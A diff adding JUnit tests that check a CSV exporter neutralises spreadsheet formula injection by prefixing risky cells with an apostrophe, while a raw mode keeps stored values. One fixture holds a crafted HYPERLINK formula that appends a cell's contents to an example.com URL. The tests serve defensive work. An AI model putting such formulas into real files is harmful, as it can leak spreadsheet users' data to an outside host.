@@ -93,6 +93,45 @@ class RoundTripTest {
     }
 
     @Test
+    void textASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndRawWritesItAsStored() throws Exception {
+        Path f = dir.resolve("crafted.csv");
+        Files.writeString(f, "product_id,title,category,subcategory,brand,color,material,price_inr,weight_g,length_cm,"
+                + "width_cm,height_cm,fragile,liquid,image_path\n"
+                + "P9,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"offer\"\")\",Clothing,Sarees,@brand,-red,+91 98765 43210,"
+                + "10.00,5,,,,false,false,\n", StandardCharsets.UTF_8);
+        new CsvImporter(ws).importFile(f, DataTable.PRODUCTS, ImportOptions.defaults(), ProgressMonitor.NONE);
+        TableQuery q = TableQuery.all("products").withFilter("product_id", "=P9");
+
+        Path out = dir.resolve("safe.csv");
+        new CsvExporter(ws).export(q, out, ProgressMonitor.NONE);
+        String[] row = read(out).get(1);
+        assertEquals("'=HYPERLINK(\"http://example.com/?\"&A1,\"offer\")", row[1]);
+        assertEquals("'@brand", row[4]);
+        assertEquals("'-red", row[5]);
+        assertEquals("'+91 98765 43210", row[6]);
+        assertEquals("10.00", row[7], "numbers are never touched");
+        JsonNode provenance = new ObjectMapper().readTree(CsvExporter.provenanceFileOf(out).toFile());
+        assertEquals(4, provenance.get("cells_with_apostrophe_added").asInt());
+
+        Path raw = dir.resolve("raw.csv");
+        new CsvExporter(ws).raw().export(q, raw, ProgressMonitor.NONE);
+        String[] stored = read(raw).get(1);
+        assertEquals("=HYPERLINK(\"http://example.com/?\"&A1,\"offer\")", stored[1]);
+        assertEquals("-red", stored[5]);
+        assertEquals(0, new ObjectMapper().readTree(CsvExporter.provenanceFileOf(raw).toFile()).get("cells_with_apostrophe_added").asInt());
+    }
+
+    @Test
+    void tellsFormulasFromNumbersAndPlaceholders() {
+        for (String formula : List.of("=1+1", "@SUM(A1)", "+A1", "-A1", "-2+3", "\t=1", "\r=1", "+91 98765 43210")) {
+            assertTrue(CsvExporter.looksLikeAFormula(formula), formula);
+        }
+        for (String text : List.of("", "-", "+", "-12", "+3.50", "12-3", "saree", "a=b")) {
+            assertTrue(!CsvExporter.looksLikeAFormula(text), text);
+        }
+    }
+
+    @Test
     void browsesPagesSortsSearchesAndFilters() {
         TableBrowser browser = new TableBrowser(ws);
         assertEquals(List.of("products", "addresses", "shipments", "package_types", "address_labels"), browser.tables().subList(0, 5));
